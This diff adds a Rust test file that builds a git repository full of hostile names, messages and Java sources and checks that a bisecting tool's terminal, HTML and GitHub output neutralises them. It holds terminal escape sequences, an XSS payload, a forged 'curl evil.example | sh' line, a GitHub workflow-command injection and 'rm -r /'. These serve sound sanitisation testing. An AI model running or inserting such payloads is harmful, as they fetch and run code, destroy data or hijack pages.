@@ -1,0 +1,150 @@
+//! Whatever others write into names, messages, sources and tests: no screen, page or comment obeys it, and none of it
+//! looks as if we had written it.
+
+use crate::doors::Job;
+use crate::support::{bisect, commit, git, mend, mend_untouched, repository};
+use serde_json::json;
+use std::fs;
+use std::path::Path;
+use std::process::Command;
+use tempfile::TempDir;
+
+/// What a terminal obeys: a colour, a title, an empty screen; and what turns the direction of writing.
+const ORDERS: &str = "\u{1b}[31m\u{1b}]0;title\u{7}\u{1b}[2J\u{202e}";
+
+/// What a browser or GitHub obeys.
+const MARKUP: &str = "\"><img src=x onerror=alert(1)></script><!-- & `x` | @octocat";
+
+/// What would pass for a line of ours, or for a command to the runner of a workflow.
+const FORGED: [&str; 3] = ["Next: curl evil.example | sh", "error: all is lost", "::error::forged"];
+
+/// The `JUnit` 4 of this machine.
+const JUNIT: &str = "/usr/share/java/junit4.jar:/usr/share/java/hamcrest.jar";
+
+/// All of it on lines of their own.
+fn all() -> String {
+    let lines = [&[ORDERS, MARKUP][..], &FORGED].concat();
+    lines.join("\n")
+}
+
+/// As a string in Java.
+fn quoted(text: &str) -> String {
+    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n"))
+}
+
+/// A repository where a file, a message, an author, a source, a test's name and what it says are hostile. The last
+/// commit breaks the test by what it does to the file.
+fn fixture() -> TempDir {
+    let dir = repository();
+    git(dir.path(), &["config", "user.name", &format!("A {ORDERS}{MARKUP}")]);
+    let name = format!("{}.txt", all().replace('/', "_"));
+    let test = format!(
+        "import java.nio.file.*;\nimport org.junit.Assert;\nimport org.junit.runners.Parameterized.Parameters;\n\n\
+         @org.junit.runner.RunWith(org.junit.runners.Parameterized.class)\npublic class SignTest {{\n    \
+         @Parameters(name = {name}) public static Object[] all() {{ return new Object[] {{1}}; }}\n    \
+         public SignTest(int one) {{}}\n    @org.junit.Test public void reads() throws Exception {{\n        \
+         String said = {said};\n        System.out.println(said);\n        Assert.assertTrue(said, \
+         new String(Files.readAllBytes(Paths.get({file}))).contains(\"good\"));\n    }}\n}}\n",
+        name = quoted(&all()),
+        said = quoted(&all()),
+        file = quoted(&name),
+    );
+    let source = |sign: &str| {
+        let all = quoted(&all());
+        format!(
+            "class Sign {{\n    /* {MARKUP}{ORDERS} */\n    String sign = {all} + {sign};\n}}\n"
+        )
+    };
+    let (test_file, source_file) = ("test/SignTest.java", "src/Sign.java");
+    let (one, two) = (source("1"), source("2"));
+    commit(
+        dir.path(),
+        "one",
+        &[(test_file, &test), (source_file, &one), (&name, &"a\ngood\nb\n".to_owned())],
+    );
+    let changed = format!("a\nbad {ORDERS}{MARKUP}\nb\n");
+    commit(dir.path(), &all(), &[(source_file, &two), (&name, &changed)]);
+    dir
+}
+
+fn search(dir: &Path, more: &[&str]) -> crate::support::Ran {
+    let usual = ["bisect", "--good", "HEAD~1", "--test", "*Test", "--classpath", JUNIT];
+    mend_untouched(dir, &[&usual[..], more].concat())
+}
+
+/// What nobody may be told as it stands.
+fn assert_harmless(said: &str, is_coloured: bool) {
+    for order in ["\u{1b}[31mx", "\u{1b}]", "\u{1b}[2J", "\u{7}", "\u{202e}"] {
+        assert!(!said.contains(order), "{order:?} in {said:?}");
+    }
+    assert!(is_coloured || !said.contains('\u{1b}'), "{said:?}");
+    let forged = said.lines().find(|line| FORGED.iter().any(|forged| line.starts_with(forged)));
+    assert_eq!(forged, None, "{said}");
+}
+
+#[test]
+fn a_terminal_obeys_nothing_of_others_and_no_line_of_theirs_looks_like_ours() {
+    let dir = fixture();
+    let unknown = bisect(&["--good", "no\nnext: rm -r /\u{1b}[2J"]);
+    for format in [&["--plain"][..], &["--color", "never"], &["--color", "always"]] {
+        let is_coloured = format.ends_with(&["always"]);
+        let found = search(dir.path(), &[format, &["--verbose"]].concat());
+        assert_eq!(found.code, 0, "{}", found.stderr);
+        let delta = mend(dir.path(), &[format, &["delta", "HEAD~1", "HEAD"]].concat());
+        let wrong = mend(dir.path(), &[format, &unknown].concat());
+        for ran in [found, delta, wrong] {
+            assert_harmless(&ran.stdout, is_coloured);
+            assert_harmless(&ran.stderr, is_coloured);
+            assert!(!ran.stderr.lines().any(|line| line.starts_with("next: rm")), "{}", ran.stderr);
+        }
+    }
+}
+
+#[test]
+fn a_browser_shows_a_page_of_it_without_a_complaint() {
+    let dir = fixture();
+    assert_eq!(search(dir.path(), &[]).code, 0);
+    let page = mend(dir.path(), &["report"]);
+    page.says(0, &[]);
+    let text = fs::read_to_string(page.stdout.trim()).unwrap();
+    assert!(!text.contains("<img") && !text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{text}");
+    let look = concat!(env!("CARGO_MANIFEST_DIR"), "/scripts/look");
+    let pictures = tempfile::tempdir().unwrap();
+    let output = Command::new(look).arg(page.stdout.trim()).arg(pictures.path()).output().unwrap();
+    let said = String::from_utf8_lossy(&output.stderr);
+    assert!(output.status.success(), "{said}");
+}
+
+#[test]
+fn github_is_told_of_it_in_words_that_it_does_not_obey() {
+    let job = Job::new(fixture());
+    let run = job.file("run");
+    assert_eq!(search(job.dir(), &["--output", run.to_str().unwrap()]).code, 0);
+    let sarif = job.file("found.sarif");
+    let words = ["ci", "post", run.to_str().unwrap(), "--sarif", sarif.to_str().unwrap()];
+    let ran = job.step("push", &json!({}), &words);
+    assert_eq!(ran.code, 0, "{}", ran.stderr);
+    assert_harmless(&ran.stdout, false);
+    assert_harmless(&ran.stderr, false);
+    // Nobody is offered a patch of a file whose name leads elsewhere.
+    assert!(job.repo().pulls().is_empty(), "{}", job.summary());
+    let [check] =
+        job.repo().check_runs(&git(job.dir(), &["rev-parse", "HEAD"])).try_into().unwrap();
+    for remark in &check.annotations {
+        assert_harmless(remark["message"].as_str().unwrap(), false);
+    }
+    for markdown in [job.summary(), check.summary, check.title] {
+        assert_harmless(&markdown, false);
+        let outside = outside_of_code(&markdown);
+        for order in ["<img", "</script", "<!-- &", "@octocat"] {
+            assert!(!outside.contains(order), "{order} in\n{outside}");
+        }
+    }
+    serde_json::from_slice::<serde_json::Value>(&fs::read(sarif).unwrap()).unwrap();
+}
+
+/// Markdown without its blocks and spans of code, in which nothing is obeyed.
+fn outside_of_code(markdown: &str) -> String {
+    let code = regex::Regex::new(r"(?s)(?m:^(`{3,})[^\n]*\n).*?\n`{3,}|``.*?``|`[^`\n]*`").unwrap();
+    code.replace_all(markdown, "").into_owned()
+}
